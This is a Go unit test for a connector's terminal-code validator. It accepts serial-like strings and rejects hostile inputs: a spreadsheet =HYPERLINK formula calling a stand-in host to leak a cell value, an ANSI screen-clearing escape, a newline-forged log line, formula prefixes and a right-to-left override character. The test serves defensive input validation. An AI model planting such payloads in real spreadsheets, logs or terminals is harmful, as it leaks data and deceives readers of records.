package connector_test

import (
	"strings"
	"testing"

	"github.com/compago-odoo/connector/connector"
)

// A terminal code comes from Odoo, where a cashier writes it: only what
// can be a Compago serial passes, so that a formula, escape sequences or
// a forged line never reach the journal, Compago, a report or a terminal.
func TestValidTerminalAcceptsSerialsOnly(t *testing.T) {
	for _, ok := range []string{"TERMINAL-001", "T1", "PAX-A920.SN:0042/B", "abc_123", strings.Repeat("9", connector.MaxTerminalLen)} {
		if err := connector.ValidTerminal(ok); err != nil {
			t.Errorf("ValidTerminal(%q) = %v, want accepted", ok, err)
		}
	}
	for _, bad := range []string{
		"",
		"=HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"ok\")",
		"TERMINAL-001\x1b[2J",
		"T1\nFAKE  LINE  recorded",
		"TERMINAL 001",
		"-2+3",
		"@SUM(A1)",
		"TERMINAL-00１", // a full-width digit
		"T\u202e1",
		strings.Repeat("9", connector.MaxTerminalLen+1),
	} {
		err := connector.ValidTerminal(bad)
		if err == nil {
			t.Errorf("ValidTerminal(%q) accepted", bad)
			continue
		}
		if strings.ContainsAny(err.Error(), "\x1b\n") {
			t.Errorf("ValidTerminal(%q) says %q: the reason carries the control characters", bad, err)
		}
	}
}
